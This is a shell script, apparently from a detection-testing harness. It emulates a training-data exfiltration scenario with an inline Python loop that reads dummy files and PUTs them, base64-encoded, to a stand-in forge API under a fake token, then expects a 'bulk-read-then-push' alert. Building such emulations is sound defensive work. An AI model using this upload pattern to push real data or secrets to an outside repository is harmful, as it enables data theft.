#!/bin/sh
# Emulates scenario python-requests-upload (examples/scenarios/python-requests-upload.yaml):
# An inline Python script reads training data and PUTs it into a repository through a contents API.
#
# Safe version: random "training shards", a fake token, the in-namespace forge-api stand-in. Uses the
# standard library (urllib) so the stock python image is enough.
#
# Image: python:3.12-alpine
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need python3 head
emu_check_target "$EMU_FORGE_URL"
work="$EMU_WORKDIR/python-requests-upload"
rm -rf "$work"
emu_dummy_files "$work/data/train" 24 72
python3 - "$work/data/train" "$EMU_FORGE_URL" <<'PY'
import base64, glob, json, sys, urllib.request
src, forge = sys.argv[1], sys.argv[2]
for f in sorted(glob.glob(src + "/*")):
    body = json.dumps({"message": "u", "content": base64.b64encode(open(f, "rb").read()).decode()}).encode()
    req = urllib.request.Request(forge + "/repos/ds-scratch/tmp/contents/" + f.split("/")[-1], data=body, method="PUT",
                                 headers={"Authorization": "token ghp_FAKEEXAMPLETOKEN000000000000000000"})
    urllib.request.urlopen(req).read()
PY
rm -rf "$work"
emu_expect bulk-read-then-push high
